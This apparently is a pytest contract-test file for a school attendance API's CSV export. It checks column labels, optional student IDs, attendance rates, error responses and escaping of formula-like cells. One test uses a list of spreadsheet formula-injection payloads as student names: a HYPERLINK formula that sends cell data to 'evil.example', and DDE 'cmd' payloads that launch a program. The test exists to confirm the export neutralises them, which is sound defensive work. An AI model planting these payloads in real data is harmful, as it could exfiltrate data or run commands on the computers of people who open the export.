"""SPEC §4's `?format=csv`: the attendance matrix as a spreadsheet opens it."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest

from tests.contract.helpers import (
    NOT_CLASS_TEACHER,
    SCHEMA,
    FinishedSession,
    fails,
    ok,
    run_session,
    stranger_teacher_class,
    tag,
)
from tests.support.backends import Backend
from tests.support.client import Account, Api
from tests.support.server import start_server

# What the issue saw exported as live formulas, and their kin.
FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&B2,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\u200b=1+1",  # spreadsheets skip what they do not show
)


async def attendance(api: Api, caller: Account, class_id: str, query: str = "") -> Any:
    return await api.request("GET", f"/class/{class_id}/attendance{query}", caller.token)


async def csv_rows(api: Api, teacher: Account, class_id: str, query: str = "") -> list[list[str]]:
    response = await attendance(api, teacher, class_id, f"?format=csv{query}")
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.text)))
    assert all(len(row) == len(rows[0]) for row in rows), rows
    return rows


def readable(session: FinishedSession) -> str:
    """`2025-03-11 10:00 UTC`: how the CSV heads a session's column."""
    return f"{session.started_at[:10]} {session.started_at[11:16]} UTC"


def session_labels(*sessions: FinishedSession) -> list[str]:
    """The sessions' column labels; one that repeats an earlier label is numbered."""
    labels: list[str] = []
    for session in sessions:
        label = readable(session)
        repeats = sum(earlier.startswith(label) for earlier in labels)
        labels.append(f"{label} ({repeats + 1})" if repeats else label)
    return labels


async def test_attendance_as_csv(api: Api) -> None:
    teacher, class_id, (ann, bob) = await api.classroom(2)
    first = await run_session(api, teacher, class_id, {ann.id: "present", bob.id: "late"})
    second = await run_session(api, teacher, class_id, {ann.id: "excused"})
    header, *rows = await csv_rows(api, teacher, class_id)
    assert header == ["name", "email", *session_labels(first, second), "rate"]
    assert sorted(rows) == sorted(
        [
            [ann.name, ann.email, "present", "excused", "0.5000"],
            [bob.name, bob.email, "late", "absent", "0.5000"],
        ]
    )


async def test_student_ids_only_when_asked(api: Api) -> None:
    teacher, class_id, (ann, bob) = await api.classroom(2)
    session = await run_session(api, teacher, class_id, {ann.id: "present"})
    header, *rows = await csv_rows(api, teacher, class_id, "&ids=true")
    assert header == ["studentId", "name", "email", readable(session), "rate"]
    assert sorted(rows) == sorted(
        [
            [ann.id, ann.name, ann.email, "present", "1.0000"],
            [bob.id, bob.name, bob.email, "absent", "0.0000"],
        ]
    )
    header, *_ = await csv_rows(api, teacher, class_id, "&ids=false")
    assert header[0] == "name"


async def test_a_student_without_sessions_has_an_empty_rate(api: Api) -> None:
    teacher, class_id, (ann,) = await api.classroom(1)
    assert await csv_rows(api, teacher, class_id) == [
        ["name", "email", "rate"],
        [ann.name, ann.email, ""],
    ]
    await run_session(api, teacher, class_id)
    newcomer = await api.student()
    await api.enroll(teacher, class_id, newcomer)
    _, *rows = await csv_rows(api, teacher, class_id)
    assert [newcomer.name, newcomer.email, "", ""] in rows, rows


@pytest.mark.parametrize("query", ["?format=xml", "?format=csv&ids=maybe"])
async def test_an_unknown_format_or_ids_value_is_400(api: Api, query: str) -> None:
    teacher, class_id, _ = await api.classroom(0)
    fails(await attendance(api, teacher, class_id, query), 400, SCHEMA)


async def test_attendance_as_csv_errors_stay_json(api: Api) -> None:
    stranger, class_id = await stranger_teacher_class(api)
    response = await attendance(api, stranger, class_id, "?format=csv")
    fails(response, 403, NOT_CLASS_TEACHER)


async def test_names_and_emails_that_look_like_formulas_are_exported_as_text(api: Api) -> None:
    teacher = await api.teacher()
    class_id = await api.create_class(teacher)
    students = [
        await api.signup("student", name, f"{sign}{tag()}@school.example")
        for name, sign in zip(FORMULA_NAMES, ("=", "+", "-", "=", "\t="), strict=True)
    ]
    for student in students:
        await api.enroll(teacher, class_id, student)
    await run_session(api, teacher, class_id, {student.id: "present" for student in students})
    _, *rows = await csv_rows(api, teacher, class_id)
    cells = {cell for row in rows for cell in row}
    for student in students:
        assert "'" + student.name in cells, rows
        assert "'" + student.email.strip() in cells, rows  # stored trimmed
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")], rows


async def test_excused_sessions_count_against_the_rate_by_default(api: Api) -> None:
    teacher, class_id, (ann, cat) = await api.classroom(2)
    await run_session(api, teacher, class_id, {ann.id: "present", cat.id: "excused"})
    await run_session(api, teacher, class_id, {ann.id: "excused", cat.id: "excused"})
    rates = {
        row["id"]: row["rate"] for row in ok(await attendance(api, teacher, class_id))["students"]
    }
    assert rates == {ann.id: 0.5, cat.id: 0}
    _, *rows = await csv_rows(api, teacher, class_id)
    assert {row[0]: row[-1] for row in rows} == {ann.name: "0.5000", cat.name: "0.0000"}


async def test_a_school_may_leave_excused_sessions_out_of_the_rate(
    backend: Backend, tmp_path: Path
) -> None:
    env = {"EXCUSED_COUNTS_AGAINST_RATE": "false"}
    with start_server(backend, workdir=tmp_path, env=env) as server:
        async with Api(server) as api:
            teacher, class_id, (ann, bob, cat) = await api.classroom(3)
            marks = {ann.id: "present", bob.id: "absent", cat.id: "excused"}
            await run_session(api, teacher, class_id, marks)
            marks = {ann.id: "excused", bob.id: "excused", cat.id: "excused"}
            await run_session(api, teacher, class_id, marks)
            matrix = ok(await attendance(api, teacher, class_id))
            rates = {row["id"]: row["rate"] for row in matrix["students"]}
            assert rates == {ann.id: 1, bob.id: 0, cat.id: None}
            _, *rows = await csv_rows(api, teacher, class_id)
    assert {row[0]: row[-1] for row in rows} == {
        ann.name: "1.0000",
        bob.name: "0.0000",
        cat.name: "",
    }
